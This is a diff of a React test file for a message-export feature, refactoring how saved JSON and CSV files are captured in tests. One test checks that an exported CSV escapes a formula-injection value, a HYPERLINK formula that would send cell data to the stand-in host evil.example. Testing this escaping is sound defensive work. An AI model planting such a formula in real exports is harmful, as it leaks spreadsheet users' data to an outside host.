@@ -1,6 +1,6 @@
 import { act, render, screen, waitFor, within } from '@testing-library/react';
 import userEvent from '@testing-library/user-event';
-import { beforeEach, describe, expect, it, vi } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { DEMO_CONTACTS, DEMO_SHOP_NUMBER } from '../../../../emulator/src/core/seed';
 import { parseCsv } from '../../../test/csv';
 import { testEmulator } from '../../../test/emulator';
@@ -12,40 +12,10 @@ import {
   readWholeList,
 } from '../../../test/messagesPage';
 import { testMessage } from '../../../test/messageFixture';
-import { spyOnObjectUrls } from '../../../test/objectUrls';
+import { spyOnSavedFiles } from '../../../test/savedFiles';
 import { ExportButton } from './ExportButton';
 
-const objectUrls = spyOnObjectUrls();
-
-/** The files the page asked the browser to save, in order. */
-let saved: { name: string; content: Blob }[] = [];
-
-beforeEach(() => {
-  saved = [];
-  // jsdom cannot follow the download link; the browser suite (e2e/export.spec.ts) saves real files.
-  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
-    // The page makes object URLs for media too: the saved file is the one behind this link.
-    const index = objectUrls.created.mock.results.findIndex((result) => result.value === this.href);
-    const content = objectUrls.created.mock.calls[index]?.[0];
-    if (!(content instanceof Blob)) throw new Error(`the link ${this.href} is not to a Blob`);
-    saved.push({ name: this.download, content });
-  });
-  return () => vi.restoreAllMocks();
-});
-
-const savedNames = () => saved.map((file) => file.name);
-
-/** The content of the `index`th file saved, as bytes. */
-async function savedBytes(index = 0): Promise<Uint8Array> {
-  const file = saved[index];
-  if (!file) throw new Error(`no file ${index} was saved`);
-  return new Uint8Array(await file.content.arrayBuffer());
-}
-
-/** The `index`th file saved, decoded as UTF-8 with any byte order mark kept. */
-async function savedText(index = 0): Promise<string> {
-  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await savedBytes(index));
-}
+const saved = spyOnSavedFiles();
 
 /** Today on this computer's calendar, as the file names write it. */
 function today(): string {
@@ -80,9 +50,9 @@ describe('Export on the Messages page', () => {
     expect(jsonButton).toHaveFocus();
     await user.keyboard('{Enter}');
 
-    expect(savedNames()).toEqual([`messages-14155550100-${today()}.json`]);
-    expect(saved[0]?.content.type).toBe('application/json');
-    const records = JSON.parse(await savedText()) as { sid: string; from: string; date_created: string }[];
+    await waitFor(() => expect(saved.names()).toEqual([`messages-14155550100-${today()}.json`]));
+    expect(saved.list[0]?.content.type).toBe('application/json');
+    const records = JSON.parse(await saved.text()) as { sid: string; from: string; date_created: string }[];
     expect(records.map((record) => record.sid)).toEqual(sids);
     expect(records.every((record) => record.from.startsWith('+'))).toBe(true);
     expect(records.every((record) => /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/.test(record.date_created))).toBe(
@@ -95,11 +65,11 @@ describe('Export on the Messages page', () => {
     await user.keyboard('{Enter}');
     await user.click(within(await screen.findByRole('dialog')).getByRole('button', { name: /as CSV$/ }));
 
-    expect(savedNames()[1]).toBe(`messages-14155550100-${today()}.csv`);
-    expect(saved[1]?.content.type).toBe('text/csv;charset=utf-8');
+    await waitFor(() => expect(saved.names()[1]).toBe(`messages-14155550100-${today()}.csv`));
+    expect(saved.list[1]?.content.type).toBe('text/csv;charset=utf-8');
     // UTF-8 with a byte order mark, so a spreadsheet reads 'Ça marche' and emoji as they are.
-    expect([...(await savedBytes(1)).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
-    const [header, ...rows] = parseCsv((await savedText(1)).slice(1));
+    expect([...(await saved.bytes(1)).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const [header, ...rows] = parseCsv((await saved.text(1)).slice(1));
     expect(header?.slice(0, 8)).toEqual([
       'sid',
       'date_created',
@@ -128,10 +98,10 @@ describe('Export on the Messages page', () => {
     await user.click(screen.getByRole('button', { name: 'Export' }));
     await user.click(await screen.findByRole('button', { name: /as JSON$/ }));
 
-    const csv = await savedText(0);
+    const csv = await saved.text(0);
     expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Open, now"")\nsecond line",`);
     expect(parseCsv(csv.slice(1)).some((row) => row[7] === `'${body}`)).toBe(true);
-    const records = JSON.parse(await savedText(1)) as { body: string }[];
+    const records = JSON.parse(await saved.text(1)) as { body: string }[];
     expect(records.map((record) => record.body)).toContain(body);
   });
 
@@ -144,34 +114,34 @@ describe('Export on the Messages page', () => {
     await user.click(screen.getByRole('button', { name: 'Export' }));
     await user.click(await screen.findByRole('button', { name: `Export ${sids.length} messages as CSV` }));
 
-    expect(savedNames()).toEqual([`messages-all-numbers-${today()}.csv`]);
-    const [, ...rows] = parseCsv((await savedText()).slice(1));
+    await waitFor(() => expect(saved.names()).toEqual([`messages-all-numbers-${today()}.csv`]));
+    const [, ...rows] = parseCsv((await saved.text()).slice(1));
     expect(rows.map((row) => row[0])).toEqual(sids);
   });
 });
 
 describe('ExportButton', () => {
   it('is disabled while there are no messages', () => {
-    render(<ExportButton messages={[]} phoneNumber="+14155550100" />);
+    render(<ExportButton messages={[]} phoneNumber="+14155550100" contacts={{}} />);
     expect(screen.getByRole('button', { name: 'Export' })).toBeDisabled();
   });
 
   it('names one message in the singular, and saves nothing until a format is chosen', async () => {
     const user = userEvent.setup();
-    render(<ExportButton messages={[testMessage({ sid: 'SM1' })]} phoneNumber={null} />);
+    render(<ExportButton messages={[testMessage({ sid: 'SM1' })]} phoneNumber={null} contacts={{}} />);
     await user.click(screen.getByRole('button', { name: 'Export' }));
-    expect(objectUrls.created).not.toHaveBeenCalled();
+    expect(saved.list).toEqual([]);
     expect(await screen.findByRole('button', { name: 'Export 1 message as JSON' })).toBeVisible();
     await user.keyboard('{Escape}');
     await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
-    expect(savedNames()).toEqual([]);
+    expect(saved.names()).toEqual([]);
   });
 });
 
 describe('the Export dialog closing', () => {
   it('goes away after a format is chosen even when a button inside it ends a transition of its own first', async () => {
     const user = userEvent.setup();
-    render(<ExportButton messages={[testMessage({ sid: 'SM1' })]} phoneNumber={null} />);
+    render(<ExportButton messages={[testMessage({ sid: 'SM1' })]} phoneNumber={null} contacts={{}} />);
     await user.click(screen.getByRole('button', { name: 'Export' }));
     const json = await screen.findByRole('button', { name: 'Export 1 message as JSON' });
     // Choosing, then at once a transition of something inside finishing (a button's focus ring faded before
@@ -179,6 +149,6 @@ describe('the Export dialog closing', () => {
     act(() => json.click());
     json.dispatchEvent(new Event('transitionend', { bubbles: true }));
     await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
-    expect(saved).toHaveLength(1);
+    await waitFor(() => expect(saved.list).toHaveLength(1));
   });
 });
